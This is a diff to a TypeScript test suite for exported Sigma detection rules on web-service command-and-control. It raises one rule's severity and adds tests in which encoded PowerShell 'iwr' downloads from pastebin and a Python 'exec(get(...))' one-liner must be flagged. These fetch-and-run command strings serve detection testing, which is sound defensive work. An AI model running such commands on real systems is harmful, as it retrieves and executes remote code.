@@ -72,7 +72,7 @@ describe('Sigma export', () => {
       'webc2-t1102-fetch-and-resolve.yml': 'medium',
       'webc2-t1102-network-connection.yml': 'low',
       'webc2-t1102-process-creation.yml': 'medium',
-      'webc2-t1102-script-block.yml': 'low',
+      'webc2-t1102-script-block.yml': 'medium',
     });
     const categories = [...docs.values()].map(
       (d) => (d['logsource'] as Record<string, string> | undefined)?.['category'],
@@ -236,6 +236,58 @@ describe('Sigma export', () => {
     );
     assert.equal(
       sigmaMatches(proc, start('C:\\Tools\\notepad.exe', 'notepad https://pastebin.com/raw/x')),
+      false,
+    );
+  });
+
+  it('finds a URL in base64 on a fetching tool’s command line, and one in a script block', () => {
+    const encoded = detection('webc2-t1102-encoded-command.yml');
+    const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
+    const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+    const start = (Image: string, CommandLine: string) => ({
+      Image,
+      CommandLine,
+      OriginalFileName: '',
+    });
+    // PowerShell -EncodedCommand: UTF-16LE base64, the URL at any of the three alignments.
+    for (const pad of ['', 'x', 'xy'])
+      assert.equal(
+        sigmaMatches(
+          encoded,
+          start(ps, `powershell -nop -enc ${utf16(`${pad}iwr https://pastebin.com/raw/AbC12`)}`),
+        ),
+        true,
+        pad,
+      );
+    assert.equal(
+      sigmaMatches(encoded, start(ps, `powershell -enc ${utf16('iwr https://notpastebin.com/a')}`)),
+      false,
+    );
+    assert.equal(
+      sigmaMatches(
+        encoded,
+        start('C:\\Tools\\notepad.exe', `notepad ${utf16('https://pastebin.com/raw/x')}`),
+      ),
+      false,
+      'not a fetching tool',
+    );
+    // A versioned interpreter counts as one.
+    const utf8 = Buffer.from("exec(get('https://pastebin.com/raw/x'))").toString('base64');
+    assert.equal(
+      sigmaMatches(
+        encoded,
+        start('C:\\Python312\\python3.12.exe', `python3.12 -c "b64decode('${utf8}')"`),
+      ),
+      true,
+    );
+
+    const script = detection('webc2-t1102-script-block.yml');
+    assert.equal(
+      sigmaMatches(script, { ScriptBlockText: '$c = iwr https://pastebin.com/raw/AbC12' }),
+      true,
+    );
+    assert.equal(
+      sigmaMatches(script, { ScriptBlockText: '$c = iwr https://pastebin.com.evil.example/a' }),
       false,
     );
   });
